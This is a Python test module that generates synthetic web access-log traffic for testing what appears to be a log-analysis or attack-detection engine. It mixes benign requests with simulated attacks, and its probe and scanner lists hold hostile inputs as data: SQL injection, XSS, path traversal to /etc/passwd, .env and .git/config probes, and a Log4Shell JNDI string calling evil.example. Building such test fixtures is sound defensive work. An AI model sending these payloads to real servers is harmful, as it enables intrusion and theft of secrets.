"""Generated traffic: a benign population with attacks in it, on several sources."""

from random import Random

from hypothesis import strategies as st

from tests.engine.lines import BROWSER, line

Feed = list[tuple[str, bytes]]
"""(source, line) in the order in which they are read."""

SOURCES = ("/var/log/a.log", "/var/log/b.log", "/var/log/vhosts.log", "stdin")
AGENTS = (BROWSER, "curl/8.9.1", "Mozilla/5.0 Firefox/130.0", "okhttp/4.12.0", "python-requests/2.32", "Wget/1.24", "")
CLIENTS = (*(f"192.0.2.{number}" for number in range(1, 40)), "2001:db8::1", "2001:db8::2", "2001:db8:0:1::9")
PATHS = (
    "/", "/about", "/api/users/7", "/api/users/8/orders/3", "/api/items/%d", "/api/items/%d?ref=%d", "/blog/post-%d",
    "/api/search?email=u%d@example.com", "/files/2026/01/%d", "/ids/%d,%d",
)  # fmt: skip
STATUSES = (200, 200, 200, 200, 204, 301, 302, 304, 400, 401, 403, 404, 404, 405, 429, 500, 503)
PROBES = (
    "/.env", "/%d/.git/config", "/wp-login.php", "/search?q=1'+or+%d=1--", "/search?q=%3Cscript%3E",
    "/a/../%d/etc/passwd",
    "/api/users/7?user_id=%d&user_id=8", "/api/users/*", "/api/items/%d?id[]=7", "/hidden/%d", "/backup-%d.zip",
)  # fmt: skip
SCANNERS = ("sqlmap/1.7", "Nikto/2.5", "${jndi:ldap://evil.example/a}")
JUNK = (b"", b"not a log line", b"\xff\xfe\x00", b"# comment", b'192.0.2.1 - - [broken] "GET / HTTP/1.1" 200 1')


KINDS = (
    "browse",
    "walk",
    "miss",
    "scrape",
    "stuff",
    "always-200",
    "basic",
    "fuzz",
    "tokens",
    "crowd",
    "slugs",
    "bulk",
    "shared",
    "recover",
    "roam",
    "owned",
    "probe",
    "verbs",
    "junk",
)


def piece_of(seed: int) -> list[bytes]:
    """The lines of one behaviour, without their times."""
    dice = Random(seed)  # noqa: S311  # reproducible, not secret
    client, agent = dice.choice(CLIENTS), dice.choice(AGENTS)
    user = dice.choice(("-", "-", "alice", "bob", "carol"))
    first = dice.randrange(1, 10_000)
    kind = dice.choice(KINDS)
    count = dice.randint(1, 24) if kind != "bulk" else dice.randint(30, 130)
    return [_line_of(kind, step, first, client, agent, user, dice) for step in range(count)]


def _line_of(kind: str, step: int, first: int, client: str, agent: str, user: str, dice: Random) -> bytes:
    match kind:
        case "browse":
            path = dice.choice(PATHS)
            path = path % ((dice.choice((first, 7, 9)),) * path.count("%d"))
            return line(0, client, path, dice.choice(STATUSES), user=user, agent=agent, size=200 + step % 5)
        case "walk":
            return line(0, client, f"/api/items/{first + step}", agent=agent, user=user)
        case "miss":
            return line(0, client, f"/api/items/{first * 31 + step * 977}", 404, agent=agent, size=30)
        case "scrape":
            return line(0, client, f"/api/items/{first * 17 + step * 1009}", agent=agent)
        case "stuff":
            name = f"u{step}" if first % 2 else "-"
            return line(0, client, "/login", 401, method="POST", agent=agent, user=name)
        case "always-200":
            return line(0, client, "/session", method="POST", agent=agent, size=512)
        case "basic":
            return line(0, client, "/private", 401 if step % 3 else 200, agent=agent, user=f"u{first % 4}")
        case "fuzz":
            return line(0, client, f"/{first}/{step}.php", dice.choice((404, 403, 405)), agent=agent)
        case "tokens":
            return line(0, client, f"/api/items/{first + step}?token=secret{first}{step}", agent=agent)
        case "crowd":
            return line(
                0, f"198.51.100.{dice.randrange(1, 250)}", f"/api/items/{dice.choice((first, 7, 9))}", agent=agent
            )
        case "slugs":
            return line(0, client, f"/blog/post-{first % 8}-{step // 2}", agent=agent)
        case "bulk":
            return line(0, client, f"/api/users/{first * 13 + step * 1013}/orders/{first + step * 101}", agent=agent)
        case "shared":
            name = dice.choice(("alice", "bob", "carol", "dave"))
            return line(0, client, f"/api/items/{first + step}", user=name, agent=dice.choice(AGENTS))
        case "recover":
            path = dice.choice(("/forgot", "/login", "/resetPassword", "/mfa/verify", "/login"))
            name = dice.choice(("alice", "bob", "-", f"u{first % 7}"))
            return line(0, client, path, dice.choice((200, 302, 401, 401, 422)), method="POST", user=name, agent=agent)
        case "roam":
            other = f"10.{first % 9}.{dice.randrange(9)}.1"
            return line(0, other, f"/api/me?token=secret{first}", agent=agent, user=f"u{dice.randrange(9)}")
        case "owned":
            return line(0, client, f"/api/files/{dice.randrange(60)}", agent=agent, user=f"u{dice.randrange(5)}")
        case "probe":
            path = dice.choice(PROBES).replace("%d", str(step))
            return line(0, client, path, dice.choice((200, 403, 404, 404, 500)), agent=dice.choice((agent, *SCANNERS)))
        case "verbs":
            method = dice.choice(("DELETE", "PUT", "TRACE", "PATCH"))
            return line(0, client, f"/api/items/{first + step}", dice.choice((200, 403, 405, 500)), method=method)
        case _:
            return dice.choice(JUNK)


def feed_of(seeds: list[int], start: float) -> Feed:
    """Behaviours one after the other, with their times filled in and some of them late."""
    now = start
    feed: Feed = []
    for seed in seeds:
        dice = Random(-seed)  # noqa: S311  # reproducible, not secret
        source = dice.choice(SOURCES)
        pace = dice.choice((0.0, 1.0, 7.0, 130.0, 1_900.0))
        late = dice.choice((0.0, 0.0, 0.0, 90.0, 400.0))
        for raw in piece_of(seed):
            now += pace
            host = b"h%d.example.com " % dice.randrange(3) if "vhosts" in source and raw[:1].isalnum() else b""
            feed.append((source, host + at_time(raw, now - late)))
    return feed


def feeds(size: int = 14) -> st.SearchStrategy[Feed]:
    """Feeds of up to `size` behaviours; some begin shortly before midnight."""
    seeds = st.lists(st.integers(1, 1 << 32), min_size=3, max_size=size)
    return st.builds(feed_of, seeds, st.sampled_from((0.0, 80_000.0, 86_390.0)))


def at_time(raw: bytes, at: float) -> bytes:
    """The line with another time."""
    stamp = line(at, "-", "/").split(b"[")[1].split(b"]")[0]
    head, opening, rest = raw.partition(b"[")
    _, closing, tail = rest.partition(b"]")
    return head + opening + stamp + closing + tail if opening and closing and b"broken" not in rest else raw
